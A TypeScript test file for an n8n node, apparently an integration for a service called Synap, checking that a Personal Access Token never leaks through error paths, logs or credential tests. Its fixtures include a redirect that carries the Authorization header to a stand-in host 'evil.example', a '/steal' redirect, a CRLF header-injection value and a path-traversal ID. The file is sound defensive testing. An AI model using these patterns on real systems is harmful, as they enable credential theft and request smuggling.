/**
 * Issue 8.2 — the token never leaks.
 *
 * Every error path the node has (HTTP 400/401/403/404/409/422/429 with the wait budget used up,
 * 500/502/503, redirects, non-JSON and cut-off bodies, timeouts, resets, validation errors, the
 * http:// refusal) is run in n8n-core's real engine against a server that ECHOES the request's
 * headers — Authorization included — back in every way a server or proxy might: JSON:API error
 * fields, `meta`, plain text, HTML, URL-encoded, and cut at the length where the node truncates a
 * body. The Personal Access Token must then appear nowhere: not in output items, error messages
 * or descriptions, the whole n8n run result (JSON.stringify and a deep walk that also sees
 * non-enumerable fields such as Error.cause), nor in anything n8n logged or printed. Fragments
 * count: any 12 consecutive characters of the token are a leak.
 *
 * The credential test request is run the same way through n8n-core's RoutingNode (as n8n's
 * CredentialsTester does) and scanned likewise.
 */
import type { IncomingMessage, ServerResponse } from 'node:http';

import type { IDataObject, INodeParameters } from 'n8n-workflow';

import { runSynapNode, type RunResult } from '../harness/workflow.cjs';
import { startBodyServer, type BodyServer } from '../support/bodyServer.cjs';
import { runCredentialTest } from './credentialTest.cjs';
import { deepText, LogCapture, occurrences, print } from './support.cjs';

const TOKEN = 'p:LeakScanTokenQwErTy0123456789abcdefGHIJ-_xyz';
const SUBJECT = 'SubjUser01';
const FRAGMENT = 12;

/**
 * Every way the token could show up: whole, without "p:", URL-encoded (all contain the bare
 * part), or, where it does not, any 12 consecutive characters of it (a cut-off echo).
 */
function leaks(text: string): number {
	const bare = TOKEN.slice(2);
	const whole = occurrences(text, bare);
	if (whole) return whole;
	for (let k = 0; k + FRAGMENT <= bare.length; k++) if (text.includes(bare.slice(k, k + FRAGMENT))) return 1;
	return 0;
}

type Handler = (req: IncomingMessage, res: ServerResponse, body: string) => void;
let handler: Handler = (_req, res) => res.end();
let origin = '';

const headerText = (req: IncomingMessage) =>
	Object.entries(req.headers)
		.map(([k, v]) => `${k}: ${Array.isArray(v) ? v.join(', ') : v}`)
		.join('\r\n');

/** A JSON:API error document that puts the request's headers everywhere it can. */
const echoErrors = (status: number, req: IncomingMessage) => {
	const auth = String(req.headers.authorization ?? '');
	const token = auth.replace(/^Bearer /, '');
	return {
		errors: [
			{
				status: String(status),
				title: `Rejected ${auth}`,
				detail: `The header Authorization: ${auth} (token ${token}, bare ${token.slice(2)}, encoded ${encodeURIComponent(token)}) was sent as Subject-User ${String(req.headers['subject-user'])}`,
				code: token,
				source: { pointer: `/data/attributes/${token}`, header: auth },
				meta: { traceId: `trace-${token}`, received: req.headers, raw: headerText(req) },
			},
		],
		meta: { traceId: `trace-${token}`, headers: req.headers },
		headers: req.headers,
		message: `echo ${auth}`,
	};
};

const sendJson = (res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}) => {
	res.writeHead(status, { 'Content-Type': 'application/vnd.api+json', ...headers });
	res.end(JSON.stringify(body));
};
const sendText = (res: ServerResponse, status: number, text: string, type = 'text/plain') => {
	res.writeHead(status, { 'Content-Type': type });
	res.end(text);
};

/** Text whose token starts `at` characters in, with no "Bearer " or "p:" in front of it to help redaction. */
const tokenAt = (at: number, req: IncomingMessage) => {
	const bare = String(req.headers.authorization ?? '').replace(/^Bearer p:/, '');
	return `${'x'.repeat(at)}${bare} and the rest of the echo: ${headerText(req)}`;
};

let server: BodyServer;
beforeAll(async () => {
	server = await startBodyServer((req, res, body) => handler(req, res, body));
	origin = server.origin;
});
afterAll(async () => server.close());

const rl = (value: string) => ({ __rl: true, mode: 'id', value });
const get = (extra: INodeParameters = {}): INodeParameters => ({
	resource: 'user',
	operation: 'get',
	userId: rl('={{ $json.id }}'),
	subjectUserId: '={{ $json.actor }}',
	requestOptions: { timeout: 1 },
	...extra,
});
const register = (extra: INodeParameters = {}): INodeParameters => ({
	resource: 'user',
	operation: 'create',
	name: 'Ada Lovelace',
	emailAddress: 'ada@example.com',
	subjectUserId: '={{ $json.actor }}',
	requestOptions: { timeout: 1 },
	...extra,
});

interface Case {
	name: string;
	respond: Handler;
	parameters: INodeParameters;
	baseUrl?: () => string;
	items?: IDataObject[];
}

const cases: Case[] = [
	...[400, 401, 403, 404, 409, 422].map((status) => ({
		name: `HTTP ${status} echoing the headers in JSON:API errors`,
		respond: ((req, res) => sendJson(res, status, echoErrors(status, req))) as Handler,
		parameters: register(),
	})),
	{
		name: 'HTTP 429, wait budget used up (Max Rate-Limit Wait 0)',
		respond: (req, res) => sendJson(res, 429, echoErrors(429, req), { 'Retry-After': '30' }),
		parameters: register({ requestOptions: { timeout: 1, maxRateLimitWait: 0 } }),
	},
	{ name: 'HTTP 500 echoing, with traceId', respond: (req, res) => sendJson(res, 500, echoErrors(500, req)), parameters: register() },
	{
		name: 'HTTP 502 HTML page echoing the headers',
		respond: (req, res) => sendText(res, 502, `<html><body><pre>${headerText(req)}</pre></body></html>`, 'text/html'),
		parameters: register(),
	},
	{
		name: 'HTTP 503 (retried) echoing',
		respond: (req, res) => sendJson(res, 503, echoErrors(503, req)),
		parameters: register(),
	},
	{
		name: 'HTTP 400 plain text, the token straddling the 500-character cut',
		respond: (req, res) => sendText(res, 400, tokenAt(480, req)),
		parameters: register(),
	},
	{
		name: 'HTTP 418 plain text echo',
		respond: (req, res) => sendText(res, 418, headerText(req)),
		parameters: register(),
	},
	{
		name: 'HTTP 200 that is not JSON, echoing (create: never re-sent)',
		respond: (req, res) => sendText(res, 200, headerText(req)),
		parameters: register(),
	},
	{
		name: 'HTTP 201 not JSON, the token straddling the 120-character preview cut',
		respond: (req, res) => sendText(res, 201, tokenAt(100, req), 'application/vnd.api+json'),
		parameters: register(),
	},
	{
		name: 'HTTP 200 cut-off JSON:API echoing',
		respond: (req, res) => sendText(res, 200, JSON.stringify(echoErrors(200, req)).slice(0, 700), 'application/vnd.api+json'),
		parameters: register(),
	},
	{
		name: 'HTTP 302 with the token in the Location',
		respond: (req, res) => {
			res.writeHead(302, { Location: `https://evil.example/?t=${encodeURIComponent(String(req.headers.authorization))}` });
			res.end(headerText(req));
		},
		parameters: register(),
	},
	{ name: 'timeout (no answer)', respond: () => undefined, parameters: register() },
	{
		name: 'connection reset after reading the request',
		respond: (req) => req.socket.destroy(),
		parameters: register(),
	},
	{
		name: 'GET retried through 502s then 404, echoing',
		respond: (() => {
			let n = 0;
			return ((req, res) => (n++ % 2 === 0 ? sendText(res, 502, headerText(req)) : sendJson(res, 404, echoErrors(404, req)))) as Handler;
		})(),
		parameters: get(),
	},
	{
		name: 'validation error (an ID with a slash), nothing sent',
		respond: (req, res) => sendJson(res, 200, echoErrors(200, req)),
		parameters: get(),
		items: [{ id: '../portals', actor: SUBJECT }],
	},
	{
		name: 'validation error (Act As with a line break), nothing sent',
		respond: (req, res) => sendJson(res, 200, echoErrors(200, req)),
		parameters: get(),
		items: [{ id: 'QsogF1GDFZ', actor: `${SUBJECT}\r\nX-Evil: 1` }],
	},
	{
		name: 'HTTP 401 whose detail quotes the header (Bearer "…")',
		respond: (req, res) =>
			sendJson(res, 401, { errors: [{ status: '401', detail: `Send Authorization: Bearer "p:…" — got Bearer "${String(req.headers.authorization).slice(7)}"` }] }),
		parameters: register(),
	},
	{
		name: 'http:// base URL off loopback refused',
		respond: (req, res) => sendJson(res, 200, echoErrors(200, req)),
		parameters: register(),
		baseUrl: () => `http://synap.example.com/v3`,
	},
	{
		name: 'Custom API Request, 400 echo',
		respond: (req, res) => sendJson(res, 400, echoErrors(400, req)),
		parameters: {
			resource: 'custom',
			operation: 'apiRequest',
			method: 'POST',
			path: '/attempt-overrides',
			body: '{"data": {"type": "AttemptOverride", "attributes": {}}}',
			subjectUserId: '={{ $json.actor }}',
			requestOptions: { timeout: 1 },
		},
	},
];

interface Scan {
	tokenHits: number;
	subjectEchoHits: number;
}

function scanRun(result: RunResult, logs: LogCapture): Scan & { where: string[] } {
	const places: Record<string, string> = {
		'output items': JSON.stringify(result.items) + JSON.stringify(result.errorItems) + deepText(result.items),
		'error message/description': deepText(result.error) + [...result.items].map((i) => deepText(i.error)).join('\n'),
		'JSON.stringify(run)': safeStringify(result.run),
		'deep walk of run': deepText(result.run),
		logs: logs.text(),
	};
	let tokenHits = 0;
	let subjectEchoHits = 0;
	const where: string[] = [];
	for (const [place, text] of Object.entries(places)) {
		const n = leaks(text);
		if (n) where.push(`${place}: ${n}`);
		tokenHits += n;
		// Counted, not failed: the node names the Subject-User on purpose ("Acting as Subject-User …",
		// a 403's headline), and an echoed body is quoted as Synap sent it, token scrubbed.
		subjectEchoHits += occurrences(text.toLowerCase(), `subject-user: ${SUBJECT.toLowerCase()}`);
	}
	return { tokenHits, subjectEchoHits, where };
}

function safeStringify(value: unknown): string {
	const seen = new WeakSet<object>();
	return JSON.stringify(value, (_key, v: unknown) => {
		if (typeof v === 'object' && v !== null) {
			if (seen.has(v)) return '[circular]';
			seen.add(v);
		}
		return v;
	});
}

test('no error path leaks the token (node runs, with and without Continue On Fail)', async () => {
	let runs = 0;
	let totalHits = 0;
	let totalSubjectEchoes = 0;
	const rows: string[] = [];
	for (const c of cases) {
		for (const onError of ['continueRegularOutput', 'stopWorkflow'] as const) {
			handler = c.respond;
			const logs = new LogCapture().start();
			let result: RunResult;
			try {
				result = await runSynapNode({
					parameters: c.parameters,
					items: c.items ?? [{ id: 'QsogF1GDFZ', actor: SUBJECT }],
					credentials: { accessToken: TOKEN, environment: 'custom', baseUrl: c.baseUrl ? c.baseUrl() : `${origin}/v3` },
					onError,
				});
			} finally {
				logs.stop();
			}
			runs++;
			// Each run did fail, with an error a person can read.
			const failed = result.error ?? result.items[0]?.error;
			expect({ case: c.name, onError, failed: Boolean(failed) }).toEqual({ case: c.name, onError, failed: true });
			const scan = scanRun(result, logs);
			totalHits += scan.tokenHits;
			totalSubjectEchoes += scan.subjectEchoHits;
			if (scan.tokenHits) rows.push(`${c.name} [${onError}]: ${scan.where.join(', ')}`);
		}
	}
	for (const row of rows) print(`[token] LEAK ${row}`);
	print(
		`[token] node: ${cases.length} error paths × 2 (Continue On Fail on/off) = ${runs} runs scanned (items, errors, JSON.stringify(run), deep walk, logs); ` +
			`token found ${totalHits} times; echoed "subject-user: ${SUBJECT}" header lines passed on ${totalSubjectEchoes} times (a user ID, not a secret: see the report)`,
	);
	expect(rows).toEqual([]);
	expect(totalHits).toBe(0);
}, 60_000);

test('an error detail that quotes the header (Bearer "…") still gives Synap\'s message, not a JSON SyntaxError', async () => {
	handler = (_req, res) => sendJson(res, 401, { errors: [{ status: '401', title: 'Unauthorized', detail: 'Expected header: Authorization: Bearer "<token>"' }] });
	const result = await runSynapNode({
		parameters: register({ subjectUserId: '' }),
		credentials: { accessToken: TOKEN, environment: 'custom', baseUrl: `${origin}/v3` },
	});
	expect(result.error?.message).toBe('Synap did not accept the Personal Access Token');
	expect(result.error?.description).toContain('[401] Unauthorized - Expected header: Authorization: Bearer "<token>"');
});

test("the credential test: no answer of the server puts the token in what n8n shows, logs or reports", async () => {
	const answers: Array<[string, Handler]> = [
		...[400, 401, 403, 404, 409, 429, 500, 502, 503].map(
			(status) => [`HTTP ${status} echoing`, ((req, res) => sendJson(res, status, echoErrors(status, req))) as Handler] as [string, Handler],
		),
		['HTTP 500 text echo', (req, res) => sendText(res, 500, headerText(req))],
		['HTTP 200 echoing the headers', (req, res) => sendJson(res, 200, { data: [], meta: { headers: req.headers } })],
		['HTTP 302 to another host', (req, res) => sendJson(res, 302, echoErrors(302, req), { Location: 'http://127.0.0.2:9/steal' })],
		['connection reset', (req) => req.socket.destroy()],
	];
	let shownOrLogged = 0;
	let inMemoryOnly = 0;
	const rows: string[] = [];
	for (const [name, respond] of answers) {
		handler = respond;
		const logs = new LogCapture().start();
		let run: Awaited<ReturnType<typeof runCredentialTest>>;
		try {
			run = await runCredentialTest({ accessToken: TOKEN, environment: 'custom', baseUrl: `${origin}/v3` });
		} finally {
			logs.stop();
		}
		// What leaves the process: the message the user sees, what n8n logged, what the tester logs
		// at debug level, and what its error reporter would send (n8n's ErrorReporter drops errors
		// whose level is 'warning' or 'info', which every NodeApiError here is; counted if not).
		const debugLogged: unknown[] = run.reported.filter((r) => typeof r === 'object' && r !== null && 'debug' in r);
		const sentToReporter = run.reported.filter((r) => !debugLogged.includes(r) && !['warning', 'info'].includes(String((r as { level?: unknown }).level)));
		const visible =
			leaks(JSON.stringify(run.result)) + leaks(logs.text()) + leaks(safeStringify(debugLogged)) + leaks(deepText(debugLogged)) + leaks(deepText(sentToReporter));
		// Kept in memory only: n8n's own NodeApiError keeps an echoed JSON body in context.data.
		const memory = leaks(deepText(run.reported));
		shownOrLogged += visible;
		inMemoryOnly += memory;
		rows.push(`${name}: ${run.result.status} "${run.result.message.slice(0, 60)}"${visible ? ` LEAK ${visible}` : ''}${memory ? ` (echo kept in n8n's warning-level error object: ${memory})` : ''}`);
	}
	for (const row of rows) print(`[token] credential test: ${row}`);
	print(
		`[token] credential test: ${answers.length} server answers; token in the message, n8n's logs, the tester's debug log or its error report ${shownOrLogged} times ` +
			`(an echoed body stays inside n8n's own warning-level NodeApiError ${inMemoryOnly} times, which n8n neither shows, logs nor reports)`,
	);
	expect(shownOrLogged).toBe(0);
});
